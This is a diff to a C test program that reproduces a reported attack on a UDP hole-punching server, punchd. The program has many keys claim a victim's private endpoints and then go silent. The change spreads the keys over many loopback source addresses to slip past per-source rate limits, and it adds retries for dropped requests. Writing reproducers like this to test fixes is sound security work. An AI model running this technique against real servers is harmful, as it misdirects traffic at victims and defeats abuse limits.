@@ -1,14 +1,16 @@
 /* SPDX-License-Identifier: MIT */
 /*
  * The attacker of issue 12 (findings 2 and 3), for tests only: from one
- * UDP socket, N fresh keys each register at punchd claiming the given
- * private endpoints (a victim's), CONNECT to TARGET once, and never answer
- * anything after. Its names are silentK-RUN, RUN random per run. Prints on
- * stdout what it sent:
+ * UDP socket (or S sockets on 127.1.0.1, 127.1.0.2, ...: N/S keys each, so
+ * punchd's limits per source let every key through), N fresh keys each
+ * register at punchd claiming the given private endpoints (a victim's),
+ * CONNECT to TARGET once, and never answer anything after. Its names are
+ * silentK-RUN, RUN random per run. A request that gets no answer in 500 ms
+ * is sent again, twice at most. Prints on stdout what it sent:
  *   sent BYTES bytes in DATAGRAMS datagrams for N keys
  * Exit 0 when every key registered and asked, 1 otherwise.
  *
- *   silent_peers SERVER_IP:PORT TARGET N [PRIVATE_IP:PORT]...
+ *   silent_peers SERVER_IP:PORT TARGET N[/S] [PRIVATE_IP:PORT]...
  */
 #include <stdio.h>
 #include <stdlib.h>
@@ -24,8 +26,13 @@
 #include "io/net.h"
 #include "wire/msg.h"
 
+#define MAX_SOURCES 1024
+#define TRIES 3
+
 typedef struct attacker {
-    int fd;
+    int fd;                    /* the current key's socket */
+    int fds[MAX_SOURCES];
+    unsigned n_sources;
     punch_addr server;
     uint64_t bytes, datagrams;
     uint32_t run;              /* in the names: a name never comes back with another key */
@@ -51,7 +58,9 @@ static int send_msg(attacker *at, punch_msg *m, const uint8_t *mac_key)
     return 0;
 }
 
-/* Wait (up to the socket's timeout) for an answer of this type and txid. */
+/* Wait (up to the socket's timeout) for an answer of this type and txid;
+ * a REFUSED of it ends the wait at once. Returns 0, -1 (no answer), -2
+ * (refused). */
 static int await(attacker *at, punch_msg_type type, const uint8_t *txid, punch_msg *out,
                  uint8_t *buf, size_t cap)
 {
@@ -59,10 +68,30 @@ static int await(attacker *at, punch_msg_type type, const uint8_t *txid, punch_m
         ssize_t n = recv(at->fd, buf, cap, 0);
         if (n < 0)
             return -1;
-        if (punch_msg_decode(buf, (size_t)n, out) == 0 && out->type == type &&
-            memcmp(out->txid, txid, PUNCH_MSG_TXID_LEN) == 0)
+        if (punch_msg_decode(buf, (size_t)n, out) != 0 ||
+            memcmp(out->txid, txid, PUNCH_MSG_TXID_LEN) != 0)
+            continue; /* a probe of the target, an INTRODUCE, an older answer */
+        if (out->type == type)
             return 0;
+        if (out->type == PUNCH_MSG_REFUSED)
+            return -2;
     }
+}
+
+/* Send m and wait for its answer, TRIES times at most (punchd drops what
+ * is over a rate limit without a word: a lost request is not a refusal). */
+static int ask(attacker *at, punch_msg *m, const uint8_t *mac_key, punch_msg_type type,
+               punch_msg *in, uint8_t *buf, size_t cap)
+{
+    for (int t = 0; t < TRIES; t++) {
+        if (send_msg(at, m, mac_key) != 0)
+            return -1;
+        int rc = await(at, type, m->txid, in, buf, cap);
+        if (rc != -1)
+            return rc;
+    }
+    fprintf(stderr, "silent_peers: no answer to a request of type %d\n", (int)m->type);
+    return -1;
 }
 
 /* One key: HELLO, REGISTER with the claimed endpoints, CONNECT target. */
@@ -75,7 +104,7 @@ static int one_key(attacker *at, unsigned k, const char *target)
         return -1;
     punch_msg m = {.type = PUNCH_MSG_HELLO}, in;
     randombytes_buf(m.txid, sizeof(m.txid));
-    if (send_msg(at, &m, NULL) != 0 || await(at, PUNCH_MSG_COOKIE, m.txid, &in, buf, sizeof(buf)))
+    if (ask(at, &m, NULL, PUNCH_MSG_COOKIE, &in, buf, sizeof(buf)) != 0)
         return -1;
     if (punch_auth_derive(&id, in.key, mac_key) != 0)
         return -1;
@@ -85,8 +114,7 @@ static int one_key(attacker *at, unsigned k, const char *target)
     memcpy(m.key, id.public_key, PUNCH_KEY_BYTES);
     snprintf(m.name, sizeof(m.name), "silent%u-%08x", k, at->run);
     memcpy(m.private_addr, at->priv, at->n_private * sizeof(punch_addr));
-    if (send_msg(at, &m, mac_key) != 0 ||
-        await(at, PUNCH_MSG_REGISTERED, m.txid, &in, buf, sizeof(buf)) != 0)
+    if (ask(at, &m, mac_key, PUNCH_MSG_REGISTERED, &in, buf, sizeof(buf)) != 0)
         return -1;
     m = (punch_msg){.type = PUNCH_MSG_CONNECT};
     randombytes_buf(m.txid, sizeof(m.txid));
@@ -95,31 +123,58 @@ static int one_key(attacker *at, unsigned k, const char *target)
     return send_msg(at, &m, mac_key);
 }
 
+/* Source s: the first one any address, the others 127.1.0.1 and up. */
+static int open_source(attacker *at, unsigned s)
+{
+    int fd = socket(at->server.family == PUNCH_AF_INET6 ? AF_INET6 : AF_INET, SOCK_DGRAM, 0);
+    struct timeval tv = {.tv_usec = 500000};
+    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) != 0)
+        return -1;
+    if (at->n_sources > 1) {
+        punch_addr a = {.family = PUNCH_AF_INET, .ip = {127, 1, (uint8_t)((s + 1) >> 8),
+                                                        (uint8_t)(s + 1)}};
+        struct sockaddr_storage ss;
+        socklen_t sl = punch_addr_to_sockaddr(&a, &ss);
+        if (bind(fd, (struct sockaddr *)&ss, sl) != 0)
+            return -1;
+    }
+    at->fds[s] = fd;
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     attacker at = {0};
     if (argc < 4 || sodium_init() < 0 || punch_addr_parse(argv[1], 3478, &at.server) != 0) {
-        fprintf(stderr, "usage: silent_peers SERVER_IP:PORT TARGET N [PRIVATE_IP:PORT]...\n");
+        fprintf(stderr, "usage: silent_peers SERVER_IP:PORT TARGET N[/S] [PRIVATE_IP:PORT]...\n");
         return 2;
     }
-    unsigned n = (unsigned)strtoul(argv[3], NULL, 10);
+    char *slash;
+    unsigned n = (unsigned)strtoul(argv[3], &slash, 10);
+    at.n_sources = *slash == '/' ? (unsigned)strtoul(slash + 1, NULL, 10) : 1;
+    if (at.n_sources == 0 || at.n_sources > MAX_SOURCES) {
+        fprintf(stderr, "silent_peers: '%s': from 1 to %d sources\n", argv[3], MAX_SOURCES);
+        return 2;
+    }
     at.run = randombytes_random();
     for (int i = 4; i < argc && at.n_private < PUNCH_MSG_MAX_PRIVATE; i++)
         if (punch_addr_parse(argv[i], 0, &at.priv[at.n_private++]) != 0) {
             fprintf(stderr, "silent_peers: '%s' is not an IP:PORT\n", argv[i]);
             return 2;
         }
-    at.fd = socket(at.server.family == PUNCH_AF_INET6 ? AF_INET6 : AF_INET, SOCK_DGRAM, 0);
-    struct timeval tv = {.tv_sec = 2};
-    if (at.fd < 0 || setsockopt(at.fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) != 0) {
-        perror("silent_peers: socket");
-        return 1;
-    }
+    for (unsigned s = 0; s < at.n_sources; s++)
+        if (open_source(&at, s) != 0) {
+            perror("silent_peers: socket");
+            return 1;
+        }
     unsigned done = 0;
-    for (unsigned k = 0; k < n; k++)
+    for (unsigned k = 0; k < n; k++) {
+        at.fd = at.fds[k % at.n_sources];
         done += one_key(&at, k, argv[2]) == 0;
+    }
     printf("sent %llu bytes in %llu datagrams for %u keys\n", (unsigned long long)at.bytes,
            (unsigned long long)at.datagrams, done);
-    close(at.fd); /* silent from now on: nothing it is sent is answered */
+    for (unsigned s = 0; s < at.n_sources; s++)
+        close(at.fds[s]); /* silent from now on: nothing it is sent is answered */
     return done == n ? 0 : 1;
 }
